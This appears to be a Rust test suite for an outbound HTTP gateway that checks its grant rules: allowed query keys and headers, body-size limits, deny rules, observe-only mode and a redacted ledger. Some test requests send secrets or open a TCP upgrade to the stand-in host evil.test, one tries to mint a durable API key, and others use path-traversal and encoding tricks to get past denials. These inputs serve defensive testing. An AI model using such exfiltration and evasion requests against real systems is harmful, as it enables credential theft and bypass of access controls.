//! Grants: what each of their keys lets through, and what a line keeps of a request for whoever judges it again.

use std::time::Duration;

use anyhow::{Result, ensure};
use harness::{Case, case};
use serde_json::{Value, json};
use standin::{Fault, Rule};

use super::base::{GATEWAY, REAL, Wire, get, holds, post, there};
use super::reload::{reload, without};

pub(super) const CASES: &[Case] = &[
    case("wire::grants::a_line_keeps_what_a_grant_can_be_chosen_by", kept).needs(GATEWAY),
    case("wire::grants::only_the_keys_of_the_query_that_a_grant_names_go_out", query).needs(GATEWAY),
    case("wire::grants::what_lacks_a_header_that_a_grant_wants_goes_nowhere", headers).needs(GATEWAY),
    case("wire::grants::a_body_that_is_too_large_is_refused_declared_or_counted", size).needs(GATEWAY),
    case("wire::grants::a_denial_holds_whatever_is_granted_and_in_every_spelling", denied).needs(GATEWAY),
    case("wire::grants::a_reload_that_denies_cuts_what_is_under_way", denied_late).needs(GATEWAY),
    case("wire::grants::what_is_only_observed_passes_and_is_written_down_as_refused", observed).needs(GATEWAY),
    case("wire::grants::what_is_only_observed_passes_no_guard", guarded).needs(GATEWAY),
    case("wire::grants::a_reload_that_takes_a_key_of_the_query_away_cuts_what_has_it", cut).needs(GATEWAY),
];

/// The open hosts are granted with these lines too.
fn with(keys: &str) -> Result<Wire> {
    let wire = Wire::start()?;
    wire.answer_all();
    reload(&wire, |text| text.replace("name = \"open\"\n", &format!("name = \"open\"\n{keys}\n")))?;
    Ok(wire)
}

/// The status, the reason, and the hint.
fn told(wire: &Wire, request: &[u8]) -> Result<(u16, String, String)> {
    let answer = wire.inside("open.test")?.ask(request)?;
    let body: Value = serde_json::from_slice(&answer.body).unwrap_or_default();
    let hint = body["error"]["hint"].as_str().or_else(|| body["hint"].as_str()).unwrap_or_default().to_owned();
    Ok((answer.status, answer.reason().unwrap_or_default().to_owned(), hint))
}

fn query() -> Result<()> {
    let wire = with("query = [\"page\", \"filter[*]\"]")?;
    for path in ["/bare", "/one?page=1", "/two?page=1&filter%5Bstate%5D=open"] {
        ensure!(told(&wire, &get("open.test", path, ""))?.0 == 200, "{path}");
    }
    wire.standin.forget();
    for (path, why) in [
        ("/x?page=1&all=1", "wrong query key \"all\": grant \"open\" allows page, filter[*]"),
        ("/x?page=1;all=1", "a `;` in the query"),
        ("/x?p%2561ge=1", "wrong query key"),
    ] {
        let (status, reason, hint) = told(&wire, &get("open.test", path, ""))?;
        ensure!(status == 403 && reason == "no-grant" && hint.contains(why), "{path}: {status} {reason} {hint}");
    }
    ensure!(wire.standin.seen().is_empty(), "{:?}", wire.standin.seen());
    Ok(())
}

fn headers() -> Result<()> {
    let wire = with("headers = [\"X-Reason\"]")?;
    ensure!(told(&wire, &get("open.test", "/x", "x-reason: because\r\n"))?.0 == 200);
    wire.standin.forget();
    for header in ["", "x_reason: because\r\n", "X-Reason: because\r\nConnection: x-reason\r\n"] {
        let (status, reason, hint) = told(&wire, &get("open.test", "/x", header))?;
        let why = "missing header: grant \"open\" wants x-reason";
        ensure!(status == 403 && reason == "no-grant" && hint.contains(why), "{header}: {status} {reason} {hint}");
    }
    ensure!(wire.standin.seen().is_empty(), "{:?}", wire.standin.seen());
    Ok(())
}

fn size() -> Result<()> {
    let wire = with("max_body = 10")?;
    let chunked = |body: &str| {
        let head = "POST /counted HTTP/1.1\r\nHost: open.test\r\nTransfer-Encoding: chunked\r\n\r\n";
        let pieces = body
            .as_bytes()
            .chunks(4)
            .map(|piece| format!("{:x}\r\n{}\r\n", piece.len(), String::from_utf8_lossy(piece)));
        format!("{head}{}0\r\n\r\n", pieces.collect::<String>()).into_bytes()
    };
    ensure!(told(&wire, &post("open.test", "/x", "", "0123456789"))?.0 == 200);
    ensure!(told(&wire, &chunked("0123456789"))?.0 == 200);
    wire.standin.forget();
    for request in [post("open.test", "/declared", "", "0123456789a"), chunked("0123456789THE-END")] {
        let (status, reason, hint) = told(&wire, &request)?;
        ensure!(
            status == 413 && reason == "body-too-large" && hint.contains("raise `max_body` in grant \"open\""),
            "{status} {reason} {hint}"
        );
    }
    ensure!(
        wire.standin.seen().iter().all(|seen| !seen.complete && seen.path == "/counted"),
        "{:?}",
        wire.standin.seen()
    );
    ensure!(!holds(&wire.upstream(), "THE-END"), "what was too much went out");
    let closed =
        wire.house.wait_line("its closing", |line| line["kind"] == "closed" && line["reason"] == "body-too-large")?;
    ensure!(closed["ended"] == "failed" && closed["inside"] == "a body of more than 10 bytes", "{closed}");
    wire.house.wait_line("the refusal of the declared one", |line| {
        line["kind"] == "refused" && line["path"] == "/declared"
    })?;
    Ok(())
}

/// One grant more, at the end.
fn more(wire: &Wire, keys: &str) -> Result<()> {
    reload(wire, |text| format!("{text}\n[[grant]]\n{keys}\n"))
}

fn denied() -> Result<()> {
    let wire = Wire::start()?;
    wire.answer_all();
    more(&wire, "name = \"no-admin\"\ndeny = true\nhosts = \"*.test\"\npaths = \"/admin\"")?;
    more(&wire, "name = \"no-force\"\ndeny = true\nhosts = \"open.test\"\nquery = \"force\"")?;
    ensure!(told(&wire, &get("open.test", "/administration?enforce=1", ""))?.0 == 200);
    wire.standin.forget();
    for (path, denial) in [
        ("/admin", "no-admin"),
        ("/ADMIN/x", "no-admin"),
        ("/x/%2e%2e/admin", "no-admin"),
        ("//admin;x/y", "no-admin"),
        ("/x?a=1&f%6frce=1", "no-force"),
        ("/x?a=1;Force", "no-force"),
    ] {
        let (status, reason, hint) = told(&wire, &get("open.test", path, ""))?;
        ensure!(status == 403 && reason == "denied", "{path}: {status} {reason}");
        ensure!(hint.contains(&format!("grant {denial:?} denies it")), "{path}: {hint}");
    }
    // A grant with a secret is no way round, nor is plain http.
    let answer = wire.inside("api.test")?.ask(&get("api.test", "/admin", ""))?;
    ensure!(answer.reason() == Some("denied"), "{answer:?}");
    let answer = wire.plain("GET http://open.test/admin", "Host: open.test\r\n", "")?;
    ensure!(answer.reason() == Some("denied"), "{answer:?}");
    ensure!(wire.standin.seen().is_empty(), "{:?}", wire.standin.seen());
    let line = wire.house.wait_line("its line", |line| line["reason"] == "denied" && line["path"] == "/admin")?;
    ensure!(line["kind"] == "refused" && line["grant"] == "no-admin" && line["verdict"] == "refuse", "{line}");
    Ok(())
}

fn denied_late() -> Result<()> {
    let wire = Wire::start()?;
    wire.standin.rules(vec![Rule::new("", Fault::Hang(Duration::from_secs(20)))]);
    let mut waits = wire.inside("open.test")?;
    waits.send(&get("open.test", "/waits", ""))?;
    wire.house.wait_line("the request", |line| line["path"] == "/waits")?;
    more(&wire, "name = \"closed\"\ndeny = true\nhosts = \"open.test\"")?;
    let answer = waits.response()?;
    ensure!(answer.status == 403 && answer.reason() == Some("grant-withdrawn"), "{answer:?}");
    let ended =
        wire.house.wait_line("the end of its tunnel", |line| line["kind"] == "closed" && line["ended"] == "cut")?;
    ensure!(ended["reason"] == "grant-withdrawn", "{ended}");
    Ok(())
}

fn observed() -> Result<()> {
    let wire = with("methods = \"GET\"")?;
    let dial = there(&wire.standin);
    more(&wire, &format!("name = \"watch\"\nobserve = true\nhosts = \"open.test\"\n{dial}"))?;
    more(&wire, "name = \"tried\"\nobserve = true\ndeny = true\nhosts = \"open.test\"\npaths = \"/tried\"")?;
    for (request, path, grant, observed) in [
        (get("open.test", "/granted", ""), "/granted", "open", Value::Null),
        (post("open.test", "/watched", "", "x"), "/watched", "watch", json!({"reason": "no-grant", "grant": "watch"})),
        (get("open.test", "/tried", ""), "/tried", "open", json!({"reason": "denied", "grant": "tried"})),
    ] {
        ensure!(told(&wire, &request)?.0 == 200, "{path}");
        let (line, _) = wire.closed(path)?;
        ensure!(line["verdict"] == "allow" && line["grant"] == grant && line["observed"] == observed, "{line}");
    }
    let story = wire.house.gateway(&["ledger", "tail", "--story"])?;
    ensure!(holds(&story.stdout, "(would be refused: no-grant)"), "{story:?}");
    let check = wire.house.gateway(&["check"])?;
    ensure!(holds(&check.stdout, "1 denial, 2 of them only observed"), "{check:?}");
    Ok(())
}

fn guarded() -> Result<()> {
    let wire = Wire::start()?;
    wire.answer_all();
    let dial = there(&wire.standin);
    let hosts = "[\"api.anthropic.com\", \"evil.test\"]";
    reload(&wire, |text| {
        let text = without(text, "open");
        format!(
            "{text}\n[[grant]]\nname = \"watch\"\nobserve = true\nhosts = {hosts}\n{dial}\n[[grant]]\nname = \"screened\"\nobserve = true\nhosts = \"*.localhost\"\n"
        )
    })?;
    let sentinel = format!("x-note: {}\r\n", wire.sentinel()?);
    let real = format!("x-note: {REAL}\r\n");
    let fetch = r#"{"model":"m","messages":[],"tools":[{"type":"web_search_20250305","name":"web_search"}]}"#;
    let kind = "Content-Type: application/json\r\n";
    for (host, request, reason) in [
        (
            "api.anthropic.com",
            post("api.anthropic.com", "/api/oauth/claude_cli/create_api_key", kind, "{}"),
            "durable-credential",
        ),
        ("api.anthropic.com", post("api.anthropic.com", "/v1/messages", kind, fetch), "provider-egress"),
        ("evil.test", get("evil.test", "/x", &sentinel), "sentinel-astray"),
        ("evil.test", get("evil.test", "/x", &real), "secret-outbound"),
        ("evil.test", get("evil.test", "/x", "Connection: upgrade\r\nUpgrade: tcp\r\n"), "upgrade-refused"),
        ("a.localhost", get("a.localhost", "/x", ""), "address-refused"),
    ] {
        let answer = wire.inside(host)?.ask(&request)?;
        ensure!(answer.reason() == Some(reason), "{host} {reason}: {answer:?}");
    }
    ensure!(wire.inside("evil.test")?.ask(&get("evil.test", "/kept", "authorization: mine\r\n"))?.status == 200);
    ensure!(!holds(&wire.upstream(), "authorization: mine"), "what is observed keeps no credential");
    Ok(())
}

fn cut() -> Result<()> {
    let wire = with("query = [\"page\", \"all\"]")?;
    wire.standin.rules(vec![Rule::new("", Fault::Hang(Duration::from_secs(20)))]);
    let mut waits = wire.inside("open.test")?;
    waits.send(&get("open.test", "/waits?all=1", ""))?;
    wire.house.wait_line("the request", |line| line["path"] == "/waits")?;
    reload(&wire, |text| text.replace("[\"page\", \"all\"]", "[\"page\"]"))?;
    let answer = waits.response()?;
    ensure!(answer.status == 403 && answer.reason() == Some("grant-withdrawn"), "{answer:?}");
    Ok(())
}

fn kept() -> Result<()> {
    let wire = Wire::start()?;
    wire.answer_all();
    let secret = "swordfish-is-the-word";
    let mut inside = wire.inside("open.test")?;
    let query = format!("page=1&filter%5Ba%5D={secret}&q=a;{secret}");
    let headers = format!("X-Own: {secret}\r\nAccept: text/plain\r\n");
    ensure!(inside.ask(&get("open.test", &format!("/bare?{query}"), &headers))?.status == 200);
    ensure!(inside.ask(&post("open.test", "/declared", "", "12345"))?.status == 200);
    let chunked =
        "POST /chunked HTTP/1.1\r\nHost: open.test\r\nTransfer-Encoding: chunked\r\n\r\n5\r\n12345\r\n0\r\n\r\n";
    ensure!(inside.ask(chunked.as_bytes())?.status == 200);
    let (bare, _) = wire.closed("/bare")?;
    let keys: Vec<_> =
        bare["query"].as_array().into_iter().flatten().map(|one| (&one["key"], &one["semicolon"])).collect();
    let (no, yes) = (json!(null), json!(true));
    ensure!(keys == [(&json!("page"), &no), (&json!("filter%5Ba%5D"), &no), (&json!("q"), &yes)], "{bare}");
    ensure!(
        bare["headers"]["others"] == json!(["x-own"]) && bare["headers"]["shown"]["accept"] == "text/plain",
        "{bare}"
    );
    ensure!(bare["body_length"].is_null() && bare["body"].is_null(), "{bare}");
    let (declared, _) = wire.closed("/declared")?;
    ensure!(declared["body_length"] == 5 && declared["body"].is_null(), "{declared}");
    let (chunked, _) = wire.closed("/chunked")?;
    ensure!(chunked["body_length"].is_null() && chunked["body"] == "chunked", "{chunked}");
    let ledger = wire.house.ledger()?;
    ensure!(!ledger.iter().any(|line| line.to_string().contains(secret)), "a value in the ledger");
    Ok(())
}
